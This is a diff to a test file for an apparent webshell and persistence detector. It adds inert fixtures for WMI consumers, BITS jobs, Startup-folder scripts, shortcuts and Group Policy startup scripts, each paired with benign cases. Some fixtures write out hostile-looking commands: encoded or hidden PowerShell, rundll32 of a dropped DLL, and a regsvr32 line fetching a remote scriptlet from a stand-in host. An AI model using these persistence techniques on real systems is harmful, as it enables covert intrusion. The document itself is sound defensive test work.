@@ -6,6 +6,9 @@ from __future__ import annotations
 from functools import partial
 from typing import Final
 
+from tests.builders.inert import live
+from tests.builders.machine_records import bits_queue, consumer_of, wmi_instance, wmi_repository
+from tests.builders.shortcuts import shortcut
 from tests.builders.tasks import job_file, task_file
 from tests.persistence.plants import Change, Plant, added, honest, plant
 from webshellhunt.model.verdict import Disposition
@@ -59,7 +62,73 @@ _ODD_TASKS = {
     "configuration written": (r"C:\Windows\System32\inetsrv\appcmd.exe", "add module /name:W /type:W.M,W"),
 }  # fmt: skip
 
+REPOSITORY: Final = "C/Windows/System32/wbem/Repository/OBJECTS.DATA"
+QUEUE: Final = "C/ProgramData/Microsoft/Network/Downloader/qmgr.db"
+
+
+def consumer(kind: str, *texts: str) -> Change:
+    """Return the change that adds a repository of WMI with one consumer."""
+    return added(REPOSITORY, partial(consumer_of, kind, "Updater", *texts))
+
+
+_WMI: tuple[Plant, ...] = (
+    plant(43, "WMI: encoded command", "WSH4081", consumer("CommandLineEventConsumer", f"powershell.exe {_ENCODED}")),
+    plant(43, "WMI: program in public folder", "WSH4081", consumer("CommandLineEventConsumer", r"C:\Users\Public\u.exe")),
+    plant(43, "WMI: program of Windows", "WSH4081", consumer("CommandLineEventConsumer", r"C:\Windows\System32\srvchk.exe -k")),
+    plant(43, "WMI: text in two bytes", "WSH4081", consumer("CommandLineEventConsumer", "C:\\Tools\\\u00fcber\u017e.exe -k")),
+    plant(43, "WMI: script", "WSH4081", consumer("ActiveScriptEventConsumer", "VBScript", 'Set s = Create·Object("WScript.Shell")\ns.Run "a.exe"')),
+    plant(43, "WMI: page written", "WSH4081", consumer("LogFileEventConsumer", r"C:\inetpub\wwwroot\aspnet_client\e.aspx", "inert text")),
+    plant(43, "WMI: stock name, other command", "WSH4081", added(REPOSITORY, partial(consumer_of, "CommandLineEventConsumer", "BVTConsumer", r"C:\Tools\a.exe"))),
+    plant(43, "WMI: folder FS", "WSH4081", added(REPOSITORY.replace("OBJECTS", "FS/OBJECTS"), partial(consumer_of, "CommandLineEventConsumer", "Updater", "a.exe"))),
+    plant(
+        43,
+        "WMI: consumer without binding",
+        "WSH4081",
+        added(REPOSITORY, lambda: wmi_repository(wmi_instance("CommandLineEventConsumer", "a.exe", "Updater"))),
+        least=Disposition.UNEXPLAINED,
+        why="it does not run, or was removed",
+    ),
+    honest(43, "WMI: stock", added(REPOSITORY, wmi_repository)),
+    honest(43, "WMI: consumer of old Windows", added(REPOSITORY, partial(consumer_of, "CommandLineEventConsumer", "BVTConsumer", r"C:\tools\kernrate", "cscript KernCap.vbs"))),
+    honest(43, "WMI: a log is written", consumer("LogFileEventConsumer", r"C:\Logs\events.log", "%TargetEvent%")),
+    plant(42, "BITS: regsvr32 of a server", "WSH4082", added(QUEUE, partial(bits_queue, "backup", r"C:\Windows\System32\regsvr32.exe", "/s /n /u /i:ht·tp://192.0.2.7/a.sct scrobj.dll"))),
+    plant(42, "BITS: program", "WSH4082", added(QUEUE.replace(".db", "0.dat"), partial(bits_queue, "backup", r"C:\Windows\System32\srvchk.exe", "NULL"))),
+    honest(42, "BITS: download", added(QUEUE, partial(bits_queue, "Font Download"))),
+)  # fmt: skip
+
+ALL_USERS: Final = "C/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp"
+ONE_USER: Final = "C/Users/exadmin/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup"
+POLICY: Final = "C/Windows/System32/GroupPolicy/Machine/Scripts"
+
+
+def _policy(*entries: str) -> Change:
+    lines = "\r\n".join(("[Startup]", *entries))
+    return added(f"{POLICY}/scripts.ini", lambda: live(lines).encode("utf-16"))
+
+
+_STARTS: tuple[Plant, ...] = (
+    plant(42, "start-up: batch file, encoded", "WSH4083", added(f"{ALL_USERS}/update.bat", f"@echo off\r\npowershell {_ENCODED}\r\n")),
+    plant(42, "start-up: batch file, program in ProgramData", "WSH4083", added(f"{ALL_USERS}/update.cmd", '@echo off\r\nstart "" /b C:\\ProgramData\\svc\\a.exe\r\n')),
+    plant(42, "start-up: script", "WSH4083", added(f"{ONE_USER}/update.vbs", "' inert text\r\n")),
+    plant(42, "start-up: program", "WSH4083", added(f"{ONE_USER}/update.exe", b"MZ inert")),
+    plant(42, "start-up: PowerShell by a shortcut", "WSH4083", added(f"{ALL_USERS}/Update.lnk", partial(shortcut, _POWERSHELL, "-w hidden -f C:\\Tools\\a.ps1"))),
+    plant(42, "start-up: program in public folder by a shortcut", "WSH4083", added(f"{ONE_USER}/Update.lnk", partial(shortcut, r"%PUBLIC%\a.exe", variables=True))),
+    plant(42, "start-up: rundll32 by a shortcut", "WSH4083", added(f"{ONE_USER}/Update.lnk", partial(shortcut, r"C:\Windows\System32\rundll32.exe", r"C:\ProgramData\a.dll,Run"))),
+    plant(42, "policy: script in ProgramData", "WSH4083", _policy(r"0CmdLine=C:\ProgramData\a.bat", "0Parameters=")),
+    plant(42, "policy: encoded command", "WSH4083", _policy(f"0CmdLine={_POWERSHELL}", f"0Parameters={_ENCODED}")),
+    plant(42, "policy: batch file in its folder", "WSH4083", _policy("0CmdLine=update.bat", "0Parameters="), added(f"{POLICY}/Startup/update.bat", f"powershell {_ENCODED}\r\n")),
+    plant(42, "set-up: command", "WSH4083", added("C/Windows/Setup/Scripts/SetupComplete.cmd", "start C:\\Users\\Public\\a.exe\r\n")),
+    honest(42, "start-up: settings of the folder", added(f"{ALL_USERS}/desktop.ini", b"[.ShellClassInfo]\r\n")),
+    honest(42, "start-up: product by a shortcut", added(f"{ALL_USERS}/Agent.lnk", partial(shortcut, r"C:\Program Files\Vendor\Agent\agent.exe", "/tray"))),
+    honest(42, "start-up: BGInfo by a shortcut", added(f"{ALL_USERS}/BGInfo.lnk", partial(shortcut, r"C:\BGInfo\Bginfo.exe", r"C:\BGInfo\server.bgi /timer:0 /nolicprompt"))),
+    honest(42, "start-up: batch file of an administrator", added(f"{ALL_USERS}/drives.bat", "net use X: \\\\files.contoso.example\\tools\r\n"), most=Disposition.UNEXPLAINED),
+    honest(42, "policy: script of an administrator", _policy("0CmdLine=inventory.cmd", "0Parameters=/quiet"), most=Disposition.UNEXPLAINED),
+    honest(42, "set-up: product", added("C/Windows/Setup/Scripts/SetupComplete.cmd", 'msiexec /i "C:\\Program Files\\Vendor\\a.msi" /qn\r\n')),
+)  # fmt: skip
+
 PLANTS: tuple[Plant, ...] = (
+    *_WMI,
+    *_STARTS,
     *(plant(42, f"task: {name}", "WSH4018", task("Updater", *words)) for name, words in _ODD_TASKS.items()),
     plant(
         42,
